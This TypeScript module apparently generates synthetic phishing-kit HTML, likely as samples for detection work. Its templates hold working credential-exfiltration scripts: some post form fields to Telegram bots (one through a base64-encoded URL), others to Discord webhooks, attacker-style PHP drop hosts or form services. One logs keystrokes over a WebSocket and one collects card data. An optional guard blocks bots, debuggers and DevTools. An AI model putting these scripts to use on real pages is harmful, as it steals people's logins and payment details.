import type { Chance } from '../chance.ts'

/** A form of a fraud and the script that empties it; the fields are HTML. */
export interface Drop {
  readonly form: string
  readonly script: string
}

type Dropping = (fields: string, chance: Chance) => Drop

const token = (chance: Chance) => `${chance.digits(10)}:AAE${chance.base64(32).replace(/[+/]/g, '_')}`
/** The address of a script that somebody else's host runs for a kit. */
export const elsewhere = (chance: Chance) =>
  `https://${chance.of([`${chance.name(3)}.${chance.of(['com', 'ru', 'online', 'co.za', 'com.br', 'in'])}`, `${chance.name(2)}-${chance.name(2)}.${chance.of(['store', 'space', 'site', 'org'])}`])}/${chance.of(['wp-content/', 'a/', 'api/', 'host/', ''])}${chance.of(['send', 'rezult', 'log', 'gate', 'post', 'next', 'x'])}.php`

const idForm = (fields: string, chance: Chance) => {
  const id = chance.of(['loginForm', 'theForm', 'f1', 'auth', chance.letters(5)])
  return { id, form: `<form id="${id}" autocomplete="off" novalidate>${fields}</form>` }
}

const after = (chance: Chance) =>
  chance.of([
    'var n=(+sessionStorage.n||0)+1;sessionStorage.n=n;if(n>2)location.replace("https://"+(who.split("@")[1]||"www.office.com"));else document.querySelector(".err").style.display="block"',
    'setTimeout(function(){location.href="https://www.google.com"},1200)',
    'document.querySelector(".err").textContent="Please try again."',
    'location.href="done.html"',
  ])

/** The form goes to a Telegram bot; its address is at times in pieces. */
const bot: Dropping = (fields, chance) => {
  const { id, form } = idForm(fields, chance)
  const key = token(chance)
  const chat = chance.of([chance.digits(10), `-100${chance.digits(10)}`])
  const address = chance.of([
    `"https://api.telegram.org/bot${key}/sendMessage"`,
    `"https://api.telegram.org/bot"+token+"/sendMessage"`,
    `\`https://api.telegram.org/bot\${token}/sendMessage\``,
  ])
  const script = `<script>const token="${key}",chat="${chat}";document.getElementById("${id}").addEventListener("submit",async function(ev){ev.preventDefault();const all=new FormData(this);const who=String(all.get("email")||"");const text="+++ "+location.hostname+" +++\\n"+[...all].map(function(p){return p.join(": ")}).join("\\n");await fetch(${address},{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:chat,text:text})});${after(chance)}})</script>`
  return { form, script: `${script}<p class="err" style="display:none"></p>` }
}

/** The form goes to a script on another host, by jQuery. */
const query: Dropping = (fields, chance) => {
  const { id, form } = idForm(fields, chance)
  const to = elsewhere(chance)
  const send = chance.of([
    `$.post("${to}",$(this).serialize()).always(done)`,
    `$.ajax({dataType:"JSON",url:"${to}",type:"POST",data:$(this).serialize(),complete:done})`,
  ])
  return {
    form,
    script: `<script src="https://ajax.googleapis.com/ajax/libs/jquery/3.6.0/jquery.min.js"></script><script>$(function(){$("#${id}").submit(function(e){e.preventDefault();var who=$("[name=email]").val()||"";function done(){${after(chance)}}${send}})})</script>`,
  }
}

const posted: Dropping = (fields, chance) => ({
  form: `<form method="${chance.of(['post', 'POST'])}" action="${elsewhere(chance)}"${chance.maybe(0.4) ? ' name="form1"' : ''}>${fields}</form>`,
  script: '',
})

/** The form goes to a free form service. */
const backend: Dropping = (fields, chance) => ({
  form: `<form method="post" action="${chance.of([
    `https://formsubmit.co/${chance.hex(32)}`,
    `https://formspree.io/f/m${chance.letters(7)}`,
    `https://getform.io/f/${chance.letters(8)}`,
    `https://submit-form.com/${chance.letters(9)}`,
    `https://api.web3forms.com/submit`,
    `https://script.google.com/macros/s/AKfycb${chance.hex(50)}/exec`,
  ])}">${chance.maybe(0.5) ? `<input type="hidden" name="access_key" value="${chance.hex(32)}">` : ''}${fields}</form>`,
  script: '',
})

const hook: Dropping = (fields, chance) => {
  const { id, form } = idForm(fields, chance)
  return {
    form,
    script: `<script>var frm=document.forms["${id}"];frm.onsubmit=function(e){e.preventDefault();var o={};frm.querySelectorAll("input").forEach(function(i){o[i.name]=i.value});var x=new XMLHttpRequest();x.open("POST","https://discord.com/api/webhooks/${chance.digits(19)}/${chance.base64(68).replace(/[+/]/g, '-')}");x.setRequestHeader("Content-type","application/json");x.send(JSON.stringify({username:"logs",content:JSON.stringify(o)}));x.onloadend=function(){location.replace("https://outlook.office.com")}}</script>`,
  }
}

const FAR: readonly Dropping[] = [bot, bot, bot, query, query, posted, posted, posted, backend, backend, hook]

/** A form that goes to another host. */
export function farDrop(fields: string, chance: Chance): Drop {
  return chance.of(FAR)(fields, chance)
}

const NEAR: readonly Dropping[] = [
  (fields, chance) => ({
    form: `<form action="${chance.of(['action.php', './save.php', 'lib/mailer.php', '?p=2', 'x/step2', ''])}" method="post" id="frm">${fields}</form>`,
    script: '',
  }),
  (fields, chance) => ({
    form: `<div id="box">${fields.replaceAll('type="submit"', 'type="button"')}</div>`,
    script: `<script>var ws=new WebSocket("wss://"+location.host+"/${chance.letters(3)}?id=${chance.hex(8)}");document.querySelectorAll("#box input").forEach(function(el){el.oninput=function(){ws.send(JSON.stringify({k:el.name,v:el.value}))}});document.querySelector("#box button").onclick=function(){ws.send('{"k":"submit"}')}</script>`,
  }),
  (fields, chance) => {
    const { id, form } = idForm(fields, chance)
    const list = `_0x${chance.hex(4)}`
    const address = Buffer.from(`https://api.telegram.org/bot${token(chance)}/sendMessage`).toString('base64')
    return {
      form,
      script: `<script>var ${list}=["${address}","submit"];document.getElementById("${id}").addEventListener("submit",function(e){e.preventDefault();fetch(atob(${list}[0])+"?chat_id=${chance.digits(9)}&text="+encodeURIComponent([...new FormData(this).values()].join("|")),{mode:"no-cors"})})</script>`,
    }
  },
  (fields, chance) => ({
    form: `<form onsubmit="return false" id="payForm">${fields}</form>`,
    script: `<script>document.querySelector('#payForm').addEventListener('submit', async () => {\n  const data = Object.fromEntries(new FormData(document.querySelector('#payForm')));\n  await fetch('${chance.of(['/api/v1/card', './collect', '/submit', 'backend/index.php'])}', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(data) });\n  document.body.classList.add('loading');\n});</script>`,
  }),
]

/** A form that goes to the page's own host, or to an address that is encoded. */
export function nearDrop(fields: string, chance: Chance): Drop {
  return chance.of(NEAR)(fields, chance)
}

/** Code against analysis; mostly none. */
export function guardCode(chance: Chance): string {
  const guards = chance.some(
    [
      '<script>if(navigator.webdriver||/bot|crawl|spider|headless/i.test(navigator.userAgent))location.href="https://www.wikipedia.org"</script>',
      '<script>setInterval(function(){var t=performance.now();debugger;if(performance.now()-t>100)document.body.innerHTML=""},900)</script>',
      '<script>document.oncontextmenu=()=>false;onkeydown=e=>{if(e.key=="F12"||(e.ctrlKey&&"uUsS".includes(e.key)))return false}</script>',
      '<script>if(!/Android|iPhone|Mobile/i.test(navigator.userAgent)&&location.search!="?pc")console.clear()</script>',
    ],
    1,
  )
  return chance.maybe(0.22) ? guards.join('') : ''
}
